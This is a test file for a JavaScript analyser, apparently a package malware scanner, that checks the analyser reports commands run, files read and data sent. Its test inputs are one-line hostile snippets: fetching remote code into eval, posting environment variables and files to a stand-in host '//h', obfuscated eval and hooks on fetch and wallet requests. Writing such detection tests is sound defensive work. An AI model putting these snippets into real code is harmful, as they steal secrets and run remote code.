import { describe, expect, it } from "vitest"
import { type Limits, limitsDefault } from "../../core/limits.ts"
import type { Act, Value } from "../../model/code.ts"
import type { Analysed, Analysis, Source } from "../language.ts"
import { javascript } from "./index.ts"

const analyser = await javascript.load(async () => new Uint8Array())

const sourceOf = (text: string, path: string): Source => ({
  text,
  place: (start, end) => ({
    path,
    lines: [text.slice(0, start).split("\n").length, text.slice(0, Math.max(start, end - 1)).split("\n").length],
  }),
})

/** Texts in other languages are not analysed here; those in JavaScript are, as the stage does it. */
function analyse(text: string, path = "package/a.js", limits: Limits = limitsDefault, depth = 0): Analysed {
  const analysis: Analysis = {
    limits,
    files: new Set(["a.js"]),
    variables: new Map(),
    inner: (language, source) =>
      language === "javascript" && depth < 4
        ? analyser(source, { ...analysis, inner: () => ({ acts: [], blind: [] }) })
        : { acts: [], blind: [] },
  }
  return analyser(sourceOf(text, path), analysis)
}

const spell = (value: Value | undefined): string => {
  if (value === undefined) return ""
  switch (value.kind) {
    case "text":
      return JSON.stringify(value.text)
    case "joined":
      return value.parts.map(spell).join("+")
    case "either":
      return `(${value.of.map(spell).join("|")})`
    case "file":
      return `file ${spell(value.path)}`
    case "names":
      return "names"
    case "step":
      return `${value.how} ${spell(value.of)}`
    case "fetched":
      return `fetched ${spell(value.from)}`
    case "export":
      return `${value.name} of ${value.module}`
    case "environment":
      return `environment ${value.name}`
    case "unknown":
      return "?"
  }
}

function spellAct(act: Act): string {
  switch (act.kind) {
    case "runs":
      return `runs ${act.as} ${[act.what, ...(act.with ?? [])].map(spell).join(" ")}${act.input === undefined ? "" : ` < ${spell(act.input)}`}`
    case "writes":
      return `writes ${spell(act.path)} = ${spell(act.what)}`
    case "reads":
    case "deletes":
      return `${act.kind} ${spell(act.path)}`
    case "connects":
      return `connects ${spell(act.to)}${act.what === undefined ? "" : ` < ${spell(act.what)}`}${act.isCalled === true ? " if called" : ""}`
    case "looks up":
      return `looks up ${spell(act.name)}`
    case "replaces":
      return `replaces ${act.name}`
  }
}

const acts = (text: string, path?: string): readonly string[] =>
  analyse(text, path)
    .acts.map(spellAct)
    .filter((one) => !/^runs module "(?:node:)?(?:fs|zlib|child_process|http|https|path|vm|crypto|net|dns|util|worker_threads)"$/.test(one))

describe("what a program does", () => {
  it.each([
    ['require("child_process").exec("ls")', ['runs text "ls"']],
    [
      'for (const [c, a] of Object.entries({ x: ["-a", "b"], y: ["c"] })) require("child_process").spawnSync(c, a)',
      ['runs program ("x"|"y") "-a" "b"', 'runs program ("x"|"y") "c"'],
    ],
    ['import { execSync as run } from "node:child_process"; run("ls")', ['runs text "ls"']],
    [
      'require("@actions/exec").getExecOutput("bash", ["-c", "ls"])',
      ['runs module "@actions/exec"', 'runs program "bash" "-c" "ls"', 'runs text "ls"'],
    ],
    ['const exec = require("@actions/exec"); exec.exec("make all")', ['runs module "@actions/exec"', 'runs text "make all"']],
    ['import * as cp from "child_process"; cp.spawn("ls", ["-l"])', ['runs program "ls" "-l"']],
    ['const { spawnSync } = require("child_process"); spawnSync("a", ["b"], { shell: true })', ['runs text "a b"']],
    [
      'require("child_process").execFile("node", ["-e", "eval(\'1\')"])',
      ['runs program "node" "-e" "eval(\'1\')"', `runs text "eval('1')"`, 'runs text "1"'],
    ],
    [
      'const p = require("child_process").spawn("sh"); p.stdin.end("ls")',
      ['runs program "sh"', 'runs program "sh" < "ls"', 'runs text "ls"'],
    ],
    ['const fs = require("fs"); eval(fs.readFileSync("x").toString())', ['reads "x"', 'runs text file "x"']],
    ['require("fs").readFile("x", (error, content) => eval(content))', ['reads "x"', 'runs text file "x"']],
    ['require("fs").promises.readFile("x").then((content) => eval(content))', ['reads "x"', 'runs text file "x"']],
    [
      'const f = async () => { const c = await (await import("fs/promises")).readFile("x"); eval(c) }',
      ['runs module "fs/promises"', 'reads "x"', 'runs text file "x"'],
    ],
    [
      'const fs = require("fs"); fs.createReadStream("a").pipe(require("zlib").createGunzip()).pipe(fs.createWriteStream("b"))',
      ['reads "a"', 'writes "b" = ""', 'writes "b" = decompress file "a"'],
    ],
    ['require("fs").unlinkSync("x")', ['deletes "x"']],
    ["const r = { a: (n) => n }; exports.f = (l) => { const [m] = new Set(l.map((n) => r[n].constructor)); m('1') }", ['runs text "1"']],
    ["const m = new Map([['a', eval]]); for (const f of m.values()) f('1')", ['runs text "1"']],
    ["const s = new Set(); s.add(eval); for (const f of s) f('1')", ['runs text "1"']],
    ['fetch("//h").then((r) => r.text()).then(eval)', ['connects "//h"', 'runs text fetched "//h"']],
    [
      'require("https").get("//h", (r) => { let all = ""; r.on("data", (c) => { all += c }); r.on("end", () => eval(all)) })',
      ['connects "//h"', 'runs text (""|fetched "//h")'],
    ],
    [
      'const x = new XMLHttpRequest(); x.open("GET", "//h"); x.onload = () => eval(x.responseText); x.send()',
      ['connects "//h"', 'runs text fetched "//h"'],
    ],
    ['const w = new WebSocket("//h"); w.onmessage = (e) => eval(e.data)', ['connects "//h"', 'runs text fetched "//h"']],
    ['const s = document.createElement("script"); s.src = "//h/x.js"', ['connects "//h/x.js"', 'runs script fetched "//h/x.js"']],
    ['require("dns").lookup("a.b", () => 0)', ['connects "a.b"']],
    ['require("dns").promises.resolve4("a.b")', ['connects "a.b"']],
    [
      'fetch("//h", { headers: { a: process.env.A }, body: JSON.stringify({ b: [process.env.B] }) })',
      ['connects "//h" < environment A+environment B'],
    ],
    ['axios.post("//h", { ...process.env })', ['connects "//h" < environment *']],
    ['axios.post("//h", Object.assign({}, process.env).A)', ['connects "//h" < environment A']],
    [
      'const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; needle.post("//h", o)',
      ['connects "//h" < environment *'],
    ],
    [
      'const r = require("https").request({ hostname: "h" }); require("fs").createReadStream("f").pipe(r); r.end(btoa(process.env.A))',
      ['connects "h"', 'reads "f"', 'connects "h" < file "f"', 'connects "h" < edit environment A'],
    ],
    ['const x = new XMLHttpRequest(); x.open("POST", "//h"); x.send(process.env.A)', ['connects "//h"', 'connects "//h" < environment A']],
    ['fetch(new Request("//h", { body: process.env.A }))', ['connects "//h" < environment A']],
    ['require("dns").resolve(process.env.A + ".b", () => 0)', ['connects environment A+".b"']],
    ['exports.f = () => fetch("//h", { body: process.env.A })', ['connects "//h" < environment A if called']],
    ['const f = (x) => fetch("//h", { body: x }); f(process.env.A)', ['connects "//h" < environment A']],
    ['exports.f = (x) => fetch("//h", { body: x })', ['connects "//h" < ? if called']],
    ["eval(process.env.X)", ["runs text environment X"]],
    ['fetch("//h/" + process.env.TOKEN)', ['connects "//h/"+environment TOKEN']],
    ['require("./" + process.env.X)', ['runs module "./"+environment X']],
    ['require("./a.node")', ['runs object "./a.node"']],
    ['process.dlopen(module, "x.so")', ['runs object "x.so"']],
    ['const d = require("./data"); eval(d.text)', ['runs module "./data"', 'runs text file "./data"']],
    ['WebAssembly.instantiate(require("fs").readFileSync("m"))', ['reads "m"', 'runs wasm file "m"']],
    ['WebAssembly.instantiate(require("fs").readFileSync("m"), { env: { run: eval } })', ['reads "m"', 'runs module file "m"']],
    [
      'const m = new WebAssembly.Module(require("fs").readFileSync("m")); new WebAssembly.Instance(m, { a: { f: require("child_process").execSync } })',
      ['reads "m"', 'runs wasm file "m"', 'runs module file "m"'],
    ],
    ['new WebAssembly.Module(require("fs").readFileSync("m"))', ['reads "m"', 'runs wasm file "m"']],
    ["new Worker(\"eval('1')\", { eval: true })", [`runs text "eval('1')"`, 'runs text "1"']],
    ['require("vm").runInNewContext("1")', ['runs text "1"']],
    ['module._compile("1", "x")', ['runs text "1"']],
    ['new Proxy({ a: require("fs").readFileSync("f") }, { get(t) { eval(t.a) } })', ['reads "f"', 'runs text file "f"']],
    ['setImmediate((a) => eval(a), require("fs").readFileSync("f"))', ['reads "f"', 'runs text file "f"']],
    ['setTimeout("1", 5)', ['runs text "1"']],
    ['Reflect.apply(eval, null, ["1"])', ['runs text "1"']],
    ['eval.call(null, "1")', ['runs text "1"']],
    ['(0, eval)("1")', ['runs text "1"']],
    ['new Function("a", "return a")', ['runs text "return a"']],
    ['[].filter.constructor("return 1")()', ['runs text "return 1"']],
    ['(function () {}).constructor("return 1")()', ['runs text "return 1"']],
    ['globalThis["ev" + "al"]("1")', ['runs text "1"']],
    ['window[[101, 118, 97, 108].map((c) => String.fromCharCode(c)).join("")]("1")', ['runs text "1"']],
    ['const names = ["x", "eval"]; globalThis[names[1]]("1")', ['runs text "1"']],
    [`eval(${Array(300).fill('"a"').join("+")})`, [`runs text "${"a".repeat(300)}"`]],
    ['eval(atob("MQ=="))', ['runs text decode "MQ=="']],
    ['eval(Buffer.from("65766128", "hex").toString())', ['runs text decode "65766128"']],
    ['eval("1+2".split("").reverse().join(""))', ['runs text translate "2+1"']],
    [
      'const secret = "abcdefghijk"; let out = ""; for (let i = 0; i < secret.length; i++) out += String.fromCharCode(secret.charCodeAt(i) ^ 5); eval(out)',
      ['runs text (""|?|(""|?)+decode translate translate "abcdefghijk")'],
    ],
    ['eval([..."\\u{e0101}\\u{e0102}"].map((c) => String.fromCodePoint(c.codePointAt(0) - 0xe00d0)).join(""))', ['runs text decode "12"']],
    ['const high = "0x" + f() - 65536; eval(String.fromCharCode(high + 65536))', ['runs text decode translate translate "0x"+?']],
    [
      'const d = require("crypto").createDecipheriv("a", "k", "i"); let t = d.update(require("fs").readFileSync("x")); t += d.final(); eval(t)',
      ['reads "x"', 'runs text decrypt file "x"'],
    ],
    ['function run(command) { require("child_process").exec(command) } run("a"); run("b")', ['runs text "a"', 'runs text "b"']],
    ["class A { constructor(x) { this.x = x } run() { eval(this.x) } } new A(process.env.C).run()", ["runs text environment C"]],
    ["exports.run = (what) => eval(what)", ["runs text ?"]],
    ["window.fetch = function () {}", ["replaces fetch"]],
    ["XMLHttpRequest.prototype.send = function () {}", []],
    ["XMLHttpRequest.prototype.open = function () {}", ["replaces XMLHttpRequest.prototype.open"]],
    ['const http = require("http"); http.request = () => 0', ["replaces http.request"]],
    [
      'const { Agent } = require("https"); Agent.prototype.addRequest = wrap(1); function wrap(f) { return () => f }',
      ["replaces http.Agent.prototype.addRequest"],
    ],
    [
      'require("child_process").execFile("git", ["-C", d, "push", "-q", "https://a.example.org/" + n, "HEAD"])',
      ['runs program "git" "-C" ? "push" "-q" "https://a.example.org/"+? "HEAD"', 'connects "https://a.example.org/"+?'],
    ],
    [
      "const e = window.ethereum; e && (e.request = new Proxy(e.request, { apply(f, of, args) { return f(...args) } }))",
      ["replaces ethereum.request"],
    ],
    [
      'require("child_process").execFile("git", ["clone", "https://a.example.org/push", "push"])',
      ['runs program "git" "clone" "https://a.example.org/push" "push"'],
    ],
    ["globalThis.fetch = new Proxy(fetch, { apply(f, of, args) { return f(...args) } })", ["connects ?", "replaces fetch"]],
    ["window.ethereum.autoRefreshOnNetworkChange = false", []],
    ['require("fs").writeFileSync(require("path").join(__dirname, "x", "y"), "z")', ['writes "x/y" = "z"']],
    ['const a = <div onClick={() => eval("1")} />', ['runs text "1"']],
  ])("%s", (text, expected) => {
    // XMLHttpRequest.prototype.send has a row as well.
    expect(acts(text)).toEqual(text.includes("prototype.send") ? ["replaces XMLHttpRequest.prototype.send"] : expected)
  })

  it("reads TypeScript by the file's name, and nothing in declarations", () => {
    expect(
      acts("const run: (x: string) => void = (x: string) => { eval(<string>x) }; enum E { A = eval('1') as any }", "package/a.ts"),
    ).toContain('runs text "1"')
    expect(acts("declare const a: typeof eval; eval('1')", "package/a.d.ts")).toEqual([])
    expect(acts("export type A = string; export default function f<T>(x: T) { return <b>{eval('1')}</b> }", "package/a.tsx")).toEqual([
      'runs text "1"',
    ])
  })

  it("ends lines where an interpreter ends them, which is not where the bytes of a comment seem to", () => {
    expect(acts(Buffer.from("// nothing\u2028eval('1')", "utf8").toString("latin1"))).toEqual(['runs text "1"'])
    expect(acts(Buffer.from("\ufeffconst\u00a0é = 'ü\u2028'; eval(é)", "utf8").toString("latin1"))).toEqual([
      `runs text ${JSON.stringify(Buffer.from("ü\u2028", "utf8").toString("latin1"))}`,
    ])
  })

  it("says what it does not read", () => {
    expect(analyse("a b c").blind).not.toEqual([])
    expect(analyse(`${"[".repeat(100_000)}`).blind).toHaveLength(1)
    const deep = analyse(`eval("1");${"[".repeat(100)}0${"]".repeat(100)};eval("2")`, "package/a.js", {
      ...limitsDefault,
      expressionDepthMax: 50,
    })
    expect(deep.acts.map(spellAct)).toEqual(['runs text "1"', 'runs text "2"'])
    expect(deep.blind.map(({ why }) => why)).toEqual(["nested deeper than 50"])
    expect(analyse("const f = require('fs'); f[process.env.X]('a')").blind.map(({ why }) => why)).toEqual([
      "calls a member of fs whose name is computed",
    ])
  })

  it("is not changed by what the text says of itself", () => {
    const plain = acts('eval("1")')
    for (const one of [
      '"use strict"; eval("1")',
      '/* eslint-disable */ /* everybyte-ignore flow/literal-runs */ eval("1")',
      'eval("1") //# sourceMappingURL=x.map',
      '// @ts-nocheck\neval("1")',
    ])
      expect(acts(one)).toEqual(plain)
  })
})

describe("limits", () => {
  it("end the following of calls, and say so", () => {
    const text = `${Array.from({ length: 12 }, (_, i) => `function f${i}(x) { f${i + 1}(x); f${i + 1}(x + "b"); eval(x) }`).join("\n")} function f12(x) { eval(x) } f0("a")`
    const { blind } = analyse(text, "package/a.js", { ...limitsDefault, callStepsMax: 100 })
    expect(blind.map(({ why }) => why)).toEqual(["calls are not followed after 100 steps"])
  })

  it("hold for functions that call each other in circles, and values that double", () => {
    expect(acts("function a(x) { b(x + x) } function b(x) { eval(x); a(x) } a(process.env.X)").length).toBeGreaterThan(0)
    expect(acts(`let x = process.env.A; ${"x = [x, x].concat(x + x);".repeat(300)} eval(x)`).length).toBe(1)
  })

  it("of acts", () => {
    const { acts: found, blind } = analyse('eval("1");\n'.repeat(50), "package/a.js", { ...limitsDefault, scriptActsMax: 10 })
    expect(found).toHaveLength(10)
    expect(blind).toHaveLength(1)
  })
})
